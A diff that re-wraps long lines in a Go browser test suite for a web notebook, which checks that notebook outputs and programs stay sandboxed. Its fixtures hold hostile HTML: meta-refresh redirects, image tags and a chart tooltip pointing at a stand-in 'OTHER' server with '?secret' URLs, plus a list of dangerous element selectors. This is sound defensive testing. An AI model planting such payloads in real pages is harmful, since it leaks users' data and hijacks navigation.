@@ -59,7 +59,8 @@ func (l listening) Accept() (net.Conn, error) {
 	return c, err
 }
 
-// watched opens Chromium with two servers: the site, and another, whose address is other. Each hears what it must not.
+// watched opens Chromium with two servers: the site, and another, whose address is other. Each hears what it
+// must not.
 func watched(t *testing.T) (ctx context.Context, site, other string, e *ear) {
 	t.Helper()
 	oneOf(t, "chromium", "google-chrome", "chromium-browser")
@@ -96,7 +97,8 @@ func value[T any](ctx context.Context, t *testing.T, expression string, argument
 		text, err := json.Marshal(a)
 		texts[i] = string(must(t, text, err))
 	}
-	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](fmt.Sprintf(expression, texts...), chromedp.EvalAwaitPromise))
+	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](fmt.Sprintf(expression, texts...),
+		chromedp.EvalAwaitPromise))
 	if err != nil {
 		t.Fatalf("%s: %v", expression, err)
 	}
@@ -231,8 +233,8 @@ _, err := os.ReadFile("/mpcvm/data/penguins.csv")
 fmt.Println("done", err)
 `
 
-// TestProgramIsAlone runs a cell that tries to reach another server, our own, and what the browser keeps for the site. In the
-// playground the engine's worker is in the same kind of sandbox.
+// TestProgramIsAlone runs a cell that tries to reach another server, our own, and what the browser keeps for
+// the site. In the playground the engine's worker is in the same kind of sandbox.
 func TestProgramIsAlone(t *testing.T) {
 	ctx, site, other, e := watched(t)
 	openNotebook(ctx, t, site+"/notebooks/new.html")
@@ -250,10 +252,12 @@ func TestProgramIsAlone(t *testing.T) {
 	}
 	must(t, 0, chromedp.Do(ctx, chromedp.Navigate(site+"/playground/index.html")))
 	comes(ctx, t, `document.documentElement.dataset.ready`)
-	if got := value[int](ctx, t, `performance.getEntriesByType("resource").filter(r => r.name.endsWith("worker.js") && r.initiatorType !== "fetch").length`); got != 0 {
+	if got := value[int](ctx, t,
+		`performance.getEntriesByType("resource").filter(r => r.name.endsWith("worker.js") && r.initiatorType !== "fetch").length`); got != 0 {
 		t.Error("the playground's worker is not in a sandbox")
 	}
-	if got := value[string](ctx, t, `[...document.querySelectorAll("iframe")].map(f => f.getAttribute("sandbox")).join()`); got != "allow-scripts" {
+	if got := value[string](ctx, t,
+		`[...document.querySelectorAll("iframe")].map(f => f.getAttribute("sandbox")).join()`); got != "allow-scripts" {
 		t.Errorf("frames of the playground: %q", got)
 	}
 }
@@ -278,7 +282,8 @@ const hostile = `<h3>an output</h3><p style="color: red">with <b>styles</b></p>
 <template><meta http-equiv="refresh" content="0;url=OTHER/template?secret"></template>
 <div class="mpcvm-chart" id="chart" style="height: 200px"></div><script>(window.mpcvmWait=window.mpcvmWait||[]).push("CHART")</script>`
 
-// hostileChart is the code of a chart with an address in its title and HTML in its tooltip, which it wants to put outside.
+// hostileChart is the code of a chart with an address in its title and HTML in its tooltip, which it wants to
+// put outside.
 const hostileChart = `show("chart",{"title":{"text":"chart","link":"OTHER/title?secret","target":"self"},"tooltip":{"trigger":"axis","alwaysShowContent":true,"appendTo":"body","formatter":"<i class=tip>tip</i><meta http-equiv=refresh content='0;url=OTHER/tip?secret'><img src='OTHER/tip?secret'>"},"xAxis":{"type":"value"},"yAxis":{"type":"value"},"series":[{"type":"line","data":[[0,1],[1,2]]}]},null);`
 
 // withChart is the hostile output with its chart and the addresses of the servers.
@@ -289,16 +294,20 @@ func withChart(t *testing.T, site, other string) string {
 	_, err := z.Write([]byte(strings.ReplaceAll(hostileChart, "OTHER", other)))
 	must(t, 0, err)
 	must(t, 0, z.Close())
-	return strings.NewReplacer("OTHER", other, "OWN", site, "CHART", base64.StdEncoding.EncodeToString(packed.Bytes())).Replace(hostile)
+	return strings.NewReplacer("OTHER", other, "OWN", site, "CHART",
+		base64.StdEncoding.EncodeToString(packed.Bytes())).Replace(hostile)
 }
 
 // TestOutputIsHarmless shows an output that wants to harm, from a program and from an opened file.
 func TestOutputIsHarmless(t *testing.T) {
 	ctx, site, other, e := watched(t)
 	out := withChart(t, site, other)
-	file, err := json.Marshal(map[string]any{"cells": []any{map[string]any{"id": "x", "cell_type": "code", "source": "println(1)", "metadata": map[string]any{},
-		"outputs": []any{map[string]any{"output_type": "display_data", "metadata": map[string]any{}, "data": map[string]any{"text/html": out}}}},
-		map[string]any{"id": "y", "cell_type": "markdown", "metadata": map[string]any{}, "source": "![x](" + other + "/text?secret) <img src=" + other + "/html?secret>"}},
+	file, err := json.Marshal(map[string]any{"cells": []any{map[string]any{"id": "x", "cell_type": "code",
+		"source": "println(1)", "metadata": map[string]any{},
+		"outputs": []any{map[string]any{"output_type": "display_data", "metadata": map[string]any{},
+			"data": map[string]any{"text/html": out}}}},
+		map[string]any{"id": "y", "cell_type": "markdown", "metadata": map[string]any{}, "source": "![x](" + other +
+			"/text?secret) <img src=" + other + "/html?secret>"}},
 		"metadata": map[string]any{}, "nbformat": 4, "nbformat_minor": 5})
 	must(t, 0, err)
 	for _, way := range []struct {
@@ -309,7 +318,8 @@ func TestOutputIsHarmless(t *testing.T) {
 			openNotebook(ctx, t, site+"/notebooks/new.html")
 			value[any](ctx, t, `void document.querySelector(".cell.code > pre").click()`)
 			comes(ctx, t, `document.activeElement?.closest(".cm-editor")`)
-			cell := "import \"syscall/js\"\n%%\njs.Global().Get(\"mpcvmCell\").Call(\"display\", " + "`" + strings.ReplaceAll(out, "`", "") + "`)"
+			cell := "import \"syscall/js\"\n%%\njs.Global().Get(\"mpcvmCell\").Call(\"display\", " + "`" +
+				strings.ReplaceAll(out, "`", "") + "`)"
 			_, err := chromedp.Call(ctx, input.InsertText, input.InsertTextParams{Text: cell})
 			must(t, 0, err)
 			button(ctx, t, "▶")
@@ -333,15 +343,19 @@ func TestOutputIsHarmless(t *testing.T) {
 			.map(([x, y]) => document.elementFromPoint(x, y)).filter(e => e?.closest(".outputs")).map(e => e.outerHTML.slice(0, 100)).join()`); got != "" {
 			t.Errorf("an output of %s covers the page: %s", way.name, got)
 		}
-		value[any](ctx, t, `void document.querySelectorAll("#cover, #huge").forEach(e => e.remove())`) // they cover the chart
+		// they cover the chart
+		value[any](ctx, t, `void document.querySelectorAll("#cover, #huge").forEach(e => e.remove())`)
 		type box struct{ X, Y, Width, Height float64 }
-		b := value[box](ctx, t, `(() => { const c = document.querySelector(".mpcvm-chart"); c.scrollIntoView({ block: "center" }); const r = c.getBoundingClientRect(); return { X: r.x, Y: r.y, Width: r.width, Height: r.height } })()`)
+		b := value[box](ctx, t,
+			`(() => { const c = document.querySelector(".mpcvm-chart"); c.scrollIntoView({ block: "center" }); const r = c.getBoundingClientRect(); return { X: r.x, Y: r.y, Width: r.width, Height: r.height } })()`)
 		for _, at := range []float64{.4, .5, .6} { // the tooltip, then the title
-			must(t, 0, chromedp.Do(ctx, chromedp.MouseEvent(input.DispatchMouseEventTypeMouseMoved, b.X+b.Width*at, b.Y+b.Height*.6)))
+			must(t, 0, chromedp.Do(ctx, chromedp.MouseEvent(input.DispatchMouseEventTypeMouseMoved, b.X+b.Width*at,
+				b.Y+b.Height*.6)))
 		}
 		comes(ctx, t, `document.querySelector(".tip")`)
 		must(t, 0, chromedp.Do(ctx, chromedp.MouseClickXY(b.X+25, b.Y+15)))
-		value[any](ctx, t, `void document.querySelectorAll(".outputs :is(a, area, button, svg a)").forEach(e => e.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })))`)
+		value[any](ctx, t,
+			`void document.querySelectorAll(".outputs :is(a, area, button, svg a)").forEach(e => e.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })))`)
 		time.Sleep(time.Second)
 		if heard := e.fresh(); len(heard) > 0 {
 			t.Errorf("an output of %s was heard: %q", way.name, heard)
@@ -349,22 +363,26 @@ func TestOutputIsHarmless(t *testing.T) {
 		if at := value[string](ctx, t, `location.href`); !strings.HasPrefix(at, site+"/notebooks/new.html#") {
 			t.Errorf("an output of %s led to %s", way.name, at)
 		}
-		if got := value[string](ctx, t, `[...document.querySelectorAll(".outputs :is(meta, link, base, style, script, form, iframe, object, embed, template, dialog, [href], [popover], [onerror])")].map(e => e.outerHTML).join()`); got != "" {
+		if got := value[string](ctx, t,
+			`[...document.querySelectorAll(".outputs :is(meta, link, base, style, script, form, iframe, object, embed, template, dialog, [href], [popover], [onerror])")].map(e => e.outerHTML).join()`); got != "" {
 			t.Errorf("an output of %s shows %s", way.name, got)
 		}
-		if got := value[string](ctx, t, `getComputedStyle(document.querySelector(".outputs p")).color + document.querySelector(".outputs p b").textContent + !!document.querySelector(".tip").closest(".outputs")`); got != "rgb(255, 0, 0)stylestrue" {
+		if got := value[string](ctx, t,
+			`getComputedStyle(document.querySelector(".outputs p")).color + document.querySelector(".outputs p b").textContent + !!document.querySelector(".tip").closest(".outputs")`); got != "rgb(255, 0, 0)stylestrue" {
 			t.Errorf("what is harmless in an output of %s: %q", way.name, got)
 		}
 	}
 	// A browser without the sanitizer shows outputs in frames without scripts.
-	_, err = chromedp.Call(ctx, protocol.AddScriptToEvaluateOnNewDocument, protocol.AddScriptToEvaluateOnNewDocumentParams{Source: "delete Element.prototype.setHTML"})
+	_, err = chromedp.Call(ctx, protocol.AddScriptToEvaluateOnNewDocument,
+		protocol.AddScriptToEvaluateOnNewDocumentParams{Source: "delete Element.prototype.setHTML"})
 	must(t, 0, err)
 	e.fresh()
 	at := value[string](ctx, t, "location.href")
 	openNotebook(ctx, t, at)
 	comes(ctx, t, `document.querySelector(".outputs iframe")?.contentDocument?.querySelector("h3")`)
 	time.Sleep(2 * time.Second)
-	value[any](ctx, t, `void document.querySelector(".outputs iframe").contentDocument.querySelectorAll("a, button").forEach(e => e.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })))`)
+	value[any](ctx, t,
+		`void document.querySelector(".outputs iframe").contentDocument.querySelectorAll("a, button").forEach(e => e.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })))`)
 	time.Sleep(time.Second)
 	if heard, now := e.fresh(), value[string](ctx, t, "location.href"); len(heard) > 0 || now != at {
 		t.Errorf("an output in a frame was heard: %q; the page is at %s", heard, now)
@@ -376,19 +394,21 @@ func fragment(t *testing.T, source string) string {
 	t.Helper()
 	var b bytes.Buffer
 	z := gzip.NewWriter(&b)
-	must(t, 0, json.NewEncoder(z).Encode(map[string]any{"name": "shared", "cells": [][]string{{"code", source}}}))
+	must(t, 0, json.NewEncoder(z).Encode(map[string]any{"name": "shared",
+		"cells": [][]string{{"code", source}}}))
 	must(t, 0, z.Close())
 	return "#notebook=" + base64.RawURLEncoding.EncodeToString(b.Bytes())
 }
 
-// TestOpened opens links, whole and damaged, and files: a notebook of somebody else asks before it runs, a damaged link says
-// so, files stay, statements need no mark, and a panic names its cell by its number.
+// TestOpened opens links, whole and damaged, and files: a notebook of somebody else asks before it runs, a
+// damaged link says so, files stay, statements need no mark, and a panic names its cell by its number.
 func TestOpened(t *testing.T) {
 	ctx, site, _, _ := watched(t)
 	address := site + "/notebooks/new.html"
 	const notice = `document.querySelector(".notice:not([hidden])")?.textContent ?? ""`
 	whole := fragment(t, "var a []int\nfmt.Println(\"begins\")\nfmt.Println(a[3])")
-	for _, damaged := range []string{whole[:len(whole)/2], "#notebook=", "#notebook=%", whole[:20] + "*" + whole[20:]} {
+	for _, damaged := range []string{whole[:len(whole)/2], "#notebook=", "#notebook=%", whole[:20] + "*" +
+		whole[20:]} {
 		openNotebook(ctx, t, address+damaged)
 		if got := value[string](ctx, t, notice); !strings.Contains(got, "cannot be read") {
 			t.Errorf("the link %q: %q", damaged, got)
@@ -409,17 +429,21 @@ func TestOpened(t *testing.T) {
 	}
 	button(ctx, t, "▶▶ Run all")
 	comes(ctx, t, notice+`.includes("Run its code?")`)
-	if got := value[string](ctx, t, `mpcvmNotebook.kernel.state + document.querySelectorAll(".cell[data-mark]:not([data-mark=''])").length`); got != "empty0" {
+	if got := value[string](ctx, t,
+		`mpcvmNotebook.kernel.state + document.querySelectorAll(".cell[data-mark]:not([data-mark=''])").length`); got != "empty0" {
 		t.Errorf("a link ran without an answer: %s", got)
 	}
 	picture(ctx, t, "asks")
 	button(ctx, t, "Run it")
 	comes(ctx, t, `document.querySelector(".cell[data-mark=failed]")`)
-	if got := value[string](ctx, t, `document.querySelector(".outputs").textContent`); got != "begins\npanic: runtime error: index out of range [3] with length 0\n\tmain: cell 1, line 3\n" {
+	if got := value[string](ctx, t,
+		`document.querySelector(".outputs").textContent`); got != "begins\npanic: runtime error: index out of "+
+		"range [3] with length 0\n\tmain: cell 1, line 3\n" {
 		t.Errorf("a cell that panics: %q", got)
 	}
 	picture(ctx, t, "panics")
-	if got := value[string](ctx, t, `mpcvmNotebook.ipynb().then(nb => nb.cells[0].source.join(""))`); got != "var a []int\n%%\nfmt.Println(\"begins\")\nfmt.Println(a[3])" {
+	if got := value[string](ctx, t,
+		`mpcvmNotebook.ipynb().then(nb => nb.cells[0].source.join(""))`); got != "var a []int\n%%\nfmt.Println(\"begins\")\nfmt.Println(a[3])" {
 		t.Errorf("the file for GoNB has the cell %q", got)
 	}
 	comes(ctx, t, `location.hash.startsWith("#own:")`)
@@ -432,7 +456,8 @@ func TestOpened(t *testing.T) {
 	comes(ctx, t, notice+`.includes("stays in this browser")`)
 	must(t, 0, chromedp.Do(ctx, chromedp.Reload()))
 	comes(ctx, t, pageReady)
-	if got := value[string](ctx, t, `mpcvmNotebook.kernel.files().map(f => f.name + f.size + f.own).join()`); got != "t.csv8true" {
+	if got := value[string](ctx, t,
+		`mpcvmNotebook.kernel.files().map(f => f.name + f.size + f.own).join()`); got != "t.csv8true" {
 		t.Errorf("files after a reload: %q", got)
 	}
 	if got := value[string](ctx, t, notice); strings.Contains(got, "comes from") {
